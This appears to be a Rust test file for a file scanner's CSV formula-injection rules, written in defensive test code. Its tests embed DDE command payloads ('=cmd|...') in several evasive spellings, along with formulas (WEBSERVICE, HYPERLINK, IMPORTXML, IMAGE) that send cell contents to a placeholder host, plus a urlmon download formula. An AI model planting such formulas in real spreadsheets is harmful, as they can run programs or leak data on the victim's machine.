use crate::forge::{Case, Example, Specimen, case, fired, type_of};
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[
    ("json", || b"{\"a\": [1, 2, {\"b\": null}]}\n".to_vec()),
    ("jsonl", || b"{\"a\": 1}\n{\"a\": 2}\n{\"a\": 3}\n".to_vec()),
    ("csv", || b"name,size,date\na.png,1,2026-01-01\nb.png,2,2026-01-02\nc.png,3,2026-01-03\n".to_vec()),
    ("tsv", || b"name\tsize\tdate\na.png\t1\tx\nb.png\t2\ty\nc.png\t3\tz\n".to_vec()),
    ("diff", || b"--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n-a\n+b\n".to_vec()),
    ("ini", || b"; settings\n[main]\nsize = 1\ncolour = red\n[other]\na=b\n".to_vec()),
    ("log", || b"2026-01-01 10:00:01 started\n2026-01-01 10:00:02 working\n2026-01-01 10:00:03 done\n".to_vec()),
    ("source", || {
        b"#include <stdio.h>\n#define SIZE 3\n\nstatic int add(int a, int b)\n{\n    return a + b;\n}\n\nint main(void)\n{\n\
          printf(\"%d\", add(1, 2));\n    return 0;\n}\n"
            .to_vec()
    }),
];

fn table(cell: &str) -> Case {
    case("list.csv", format!("name,size,remark\na,1,x\nb,2,{cell}\nc,3,y\nd,4,z\n"))
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "text_kinds.formula-injection",
        fires: || table("=cmd|' /C nothing'!A0"),
        silent: || table("=SUM(A1:A3)"),
    },
    Example {
        rule: "text_kinds.formula-fetch",
        fires: || table("\"=WEBSERVICE(\"\"http://x.invalid/\"\"&A1)\""),
        silent: || table("=HYPERLINK(\"https://x.invalid/\")"),
    },
];

#[test]
fn formulas_that_start_programs_are_found_in_every_spelling() {
    for cell in [
        "@SUM(1+1)*cmd|' /C x'!A0",
        "\u{FF1D}cmd|'/C x'!A1",
        "\u{A0}=cmd|'/C x'!A1",
        "\"=DDE(\"\"cmd\"\",\"\"/C x\"\")\"",
        "-2+3+cmd|' /C x'!A0",
        " =cmd|'/C x'!A1",
    ] {
        assert!(fired(&table(cell).examine()).contains(&"text_kinds.formula-injection"), "{cell}");
    }
    let alone = case("a.csv", "=cmd|'/C x'!A1").examine();
    assert!(fired(&alone).contains(&"text_kinds.formula-injection"), "{}", type_of(&alone));
}

#[test]
fn formulas_that_give_away_other_cells_are_found() {
    for cell in [
        "=HYPERLINK(\"\"http://x.invalid/?a=\"\"&A1&A2;\"\"Error\"\")",
        "=IMPORTXML(CONCAT(\"\"http://x.invalid/\"\";A1);\"\"//a\"\")",
        "='file:///home/me/notes.csv'#$Sheet1.A1",
        "=IMAGE(\"\"https://x.invalid/\"\"&B2)",
    ] {
        let report = table(&format!("\"{cell}\"")).examine();
        assert_eq!(fired(&report), ["text_kinds.formula-fetch"], "{cell}");
    }
}

#[test]
fn a_table_that_reads_as_a_log_is_still_a_table() {
    let line = "2026-01-01 10:00:01,started,x\n";
    let text = format!("{}2026-01-01 10:00:02,=cmd|'/C x'!A1,x\n", line.repeat(100));
    let report = case("log.csv", text).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{} {:?}", type_of(&report), fired(&report));
    let ragged = format!("{}=cmd|'/C x'!A1\n", "words, and more\nwords\na,b,c,d\n".repeat(2000));
    let report = case("list.csv", ragged.as_str()).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{} {:?}", type_of(&report), fired(&report));
    assert_eq!(fired(&case("notes.txt", ragged).examine()), Vec::<&str>::new());
}

#[test]
fn honest_cells_are_silent() {
    for cell in [
        "+49 (0)221 123-45",
        "-5",
        "+1.5",
        "@home",
        "=A1*1.19",
        "a | b!",
        "-|-",
        "\"=IF(A1>0,1,0)\"",
        "=HYPERLINK(\"https://x.invalid/a?b=c&d=e\")",
        "\"=HYPERLINK(\"\"#Sheet1!A1\"\"; A1&B1)\"",
        "- one | 'two'",
        "=- 5 !",
    ] {
        let report = table(cell).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{cell}: {:?}", fired(&report));
    }
}

#[test]
fn prose_is_no_table() {
    let prose = "First, we looked.\nThen, we saw.\nLast, we came.\nNow, we go.\nSo, it ends.\n";
    assert_eq!(type_of(&case("a.txt", prose).examine()), "text");
}

#[test]
fn a_decorator_of_python_is_no_formula() {
    let page = "Checks\n======\n\n    from django.core.checks import Warning, register\n\n    @register(\"myapp\", deploy=True)\n    \
                def check(app_configs, **kwargs):\n        errors = []\n";
    assert!(fired(&case("checks.txt", page).examine()).is_empty());
    let formula = "name,value\n=register(\"urlmon\",\"URLDownloadToFileA\"),1\n";
    assert!(fired(&case("table.csv", formula).examine()).contains(&"text_kinds.formula-injection"));
}
